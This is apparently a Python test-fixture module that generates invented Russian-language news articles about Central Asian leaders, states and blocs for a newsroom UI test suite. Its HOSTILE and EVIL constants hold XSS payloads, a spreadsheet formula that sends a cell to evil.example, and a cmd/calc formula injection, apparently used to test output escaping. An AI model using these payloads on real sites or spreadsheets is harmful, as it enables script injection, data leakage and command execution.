"""What do the invented articles say?"""

from dataclasses import dataclass
from random import Random

from tests.ui.newsroom.days import PAIR, SPIKED


@dataclass(frozen=True, slots=True)
class Written:
    """An article's words."""

    title: str
    text: str


# Entity → its share of articles, the ending of its verbs in the past tense, and its six case forms, the nominative first; one where it has no others.
# The shares of the pair are those of naming one without the other.
NAMES: dict[str, tuple[float, str, tuple[str, ...]]] = {
    "tokayev": (0.08, "", ("Токаев", "Токаева", "Токаеву", "Токаева", "Токаевым", "Токаеве")),
    "putin": (0.2, "", ("Путин", "Путина", "Путину", "Путина", "Путиным", "Путине")),
    "mirziyoyev": (0.08, "", ("Мирзиёев", "Мирзиёева", "Мирзиёеву", "Мирзиёева", "Мирзиёевым", "Мирзиёеве")),
    "lukashenko": (0.08, "", ("Лукашенко",)),
    "xi-jinping": (0.06, "", ("Си Цзиньпин", "Си Цзиньпина", "Си Цзиньпину", "Си Цзиньпина", "Си Цзиньпином", "Си Цзиньпине")),
    "ru": (0.28, "а", ("Россия", "России", "России", "Россию", "Россией", "России")),
    "kz": (0.24, "", ("Казахстан", "Казахстана", "Казахстану", "Казахстан", "Казахстаном", "Казахстане")),
    "uz": (0.14, "", ("Узбекистан", "Узбекистана", "Узбекистану", "Узбекистан", "Узбекистаном", "Узбекистане")),
    "by": (0.1, "а", ("Беларусь", "Беларуси", "Беларуси", "Беларусь", "Беларусью", "Беларуси")),
    "us": (0.16, "и", ("США",)),
    "cn": (0.15, "", ("Китай", "Китая", "Китаю", "Китай", "Китаем", "Китае")),
    "eaeu": (0.05, "", ("ЕАЭС",)),
    "csto": (0.08, "а", ("ОДКБ",)),
    "sco": (0.06, "а", ("ШОС",)),
    "un": (0.09, "а", ("ООН",)),
}
TOGETHER = 0.06  # of articles name the pair, in one sentence
NOMINATIVE, GENITIVE, DATIVE, ACCUSATIVE, INSTRUMENTAL, PREPOSITIONAL = range(6)

# How a sentence begins about somebody in a case; what they speak of follows.
OPENINGS = (
    (NOMINATIVE, "{} поддержал{}"), (NOMINATIVE, "{} обсудил{} с соседями"), (NOMINATIVE, "{} подготовил{}"), (NOMINATIVE, "{} одобрил{}"),
    (GENITIVE, "Представители {} показали"), (GENITIVE, "По просьбе {} комиссия изучит"), (GENITIVE, "Для {} написали"),
    (DATIVE, "Эксперты посоветовали {} пересмотреть"), (DATIVE, "Посредники передали {}"),
    (ACCUSATIVE, "Журналисты спросили про {} и про"), (ACCUSATIVE, "Докладчик упомянул {}, а затем"),
    (INSTRUMENTAL, "На переговорах с {} рассмотрели"), (INSTRUMENTAL, "Вместе с {} участники составят"),
    (PREPOSITIONAL, "Речь зашла {} и затронула"), (PREPOSITIONAL, "Спор {} отложили, приняв"),
)  # fmt: skip
PLAIN = (
    "Участники форума представили", "Специалисты проверили", "Горожане ждут, когда примут", "В Астане напечатали", "Казахстанские компании получат",
    "Депутаты вернули на доработку", "Кремль не комментирует", "Учёные предложили", "В Ташкенте согласовали", "Жители области прочитали",
    "Белорусские заводы исполнят", "Ведомство опубликовало",
)  # fmt: skip
PAPERS = ("план", "договор", "проект", "порядок", "перечень", "график", "доклад", "протокол", "бюджет", "меморандум", "регламент", "прогноз")
SUBJECTS = (
    "поставок газа", "водоснабжения долины", "ремонта дорог", "набора учителей", "торговли зерном", "охраны озёр", "строительства мостов",
    "обмена студентами", "проверки плотин", "переписи скота", "перевозки грузов", "закупки лекарств", "посадки лесов", "выпуска автобусов",
    "экспорта муки", "подготовки врачей", "очистки рек", "разведки руд", "страхования урожая", "развития туризма", "защиты пастбищ",
    "хранения овощей", "запуска спутников", "обновления вагонов", "сборки тракторов", "поддержки библиотек", "учёта ледников", "аренды складов",
    "ввоза семян", "сертификации приборов",
)  # fmt: skip
ENDS = (
    "на ближайшие три года", "до конца квартала", "к началу посевной", "после долгих споров", "без лишней огласки", "с поправками экспертов",
    "на две недели раньше срока", "в присутствии наблюдателей", "по итогам осенней проверки", "вместо прежних соглашений", "при участии банков",
    "за счёт общего фонда", "в новой редакции", "с учётом погоды", "на равных условиях", "ради приграничных районов", "под контролем счётной палаты",
    "несмотря на возражения", "с отсрочкой платежей", "для пяти областей", "в сокращённом виде", "по просьбе перевозчиков", "до первых морозов",
    "на заседании в четверг",
)  # fmt: skip
SENTENCES = 3  # of a text at least

SPIKE_TITLE = "Токаев: *послание* <b>народу</b> — $1 на тенге, :material/bolt: и [ответы](javascript:alert(1)) на вопросы"
EVIL = "<img src=x onerror=alert(1)> **жирно** [сюда](javascript:alert(1)) $x$ :smile: <script>alert(2)</script>"
HOSTILE = (
    EVIL,
    '=HYPERLINK("http://evil.example/?q="&A1;"Нажмите") и Казахстан',
    r"$\frac{Китай}{0}$ \(x\) :material/delete: :red[красное] ![знак](http://evil.example/x.png)",
    "</ol></div><style>*{display:none}</style><iframe src=//evil.example></iframe> Россия",
    "# Заголовок > цитата - список | таблица `код` ~~долой~~ &lt;b&gt; США",
    "+7 495 @SUM(1+1)*cmd|' /C calc'!A0",
)


def written(random: Random, *, naming: tuple[str, ...] = (), bare: bool = False) -> Written:
    """A new text about whom chance and `naming` bring in; a bare one is a title only."""
    who = [entity for entity, (share, *_) in NAMES.items() if random.random() < share and entity not in naming]
    random.shuffle(who)
    who = [*naming, *who]
    together = random.random() < TOGETHER
    sentences = [_about(random, entity) for entity in who]
    if together:
        sentences.append(_of_the_pair(random))
    while len(sentences) < SENTENCES:
        sentences.append(f"{random.choice(PLAIN)} {_matter(random)}.")
    random.shuffle(sentences)
    return Written(_title(random, who), "" if bare else " ".join(sentences))


def of_the_spike(random: Random) -> Written:
    """The story by which the spike is explained: about nobody else."""
    return Written(SPIKE_TITLE, " ".join(_about(random, SPIKED) for _ in range(SENTENCES)))


def reprinted(random: Random, said: Written) -> Written:
    """What another outlet makes of a text: a dateline before it, its last sentence left out, now and then a title of its own."""
    kept = said.text[: said.text.rstrip(".").rindex(". ") + 1]
    title = said.title if random.random() < 0.5 else f"{_matter(random).capitalize()}: что известно"
    return Written(title, f"{random.choice(('МОСКВА', 'АСТАНА', 'МИНСК'))}, {random.randint(1, 28)} марта — ТАСС. {kept}")


def _title(random: Random, who: list[str]) -> str:
    """Names the first or the first two, or nobody."""
    if not who or random.random() < 0.25:
        return f"{random.choice(PLAIN)} {_matter(random)}"
    named = [_form(entity, NOMINATIVE) for entity in who[: random.randint(1, 2)]]
    verb = f"обсудил{NAMES[who[0]][1]}" if len(named) == 1 else "обсудили"
    return f"{' и '.join(named)} {verb} {_matter(random)}"


def _about(random: Random, entity: str) -> str:
    case, opening = random.choice(OPENINGS)
    form = _form(entity, case)
    if case == PREPOSITIONAL:
        form = f"{'об' if form[0] in 'АОУ' else 'о'} {form}"
    return f"{opening.format(form, NAMES[entity][1])} {_matter(random)}."


def _of_the_pair(random: Random) -> str:
    bloc, leader = (_form(entity, NOMINATIVE) for entity in PAIR)
    return f"На саммите {bloc} {leader} {random.choice(('предложил', 'раскритиковал', 'подписал', 'защищал'))} {_matter(random)}."


def _matter(random: Random) -> str:
    return f"{random.choice(PAPERS)} {random.choice(SUBJECTS)} {random.choice(ENDS)}"


def _form(entity: str, case: int) -> str:
    forms = NAMES[entity][2]
    return forms[case % len(forms)]
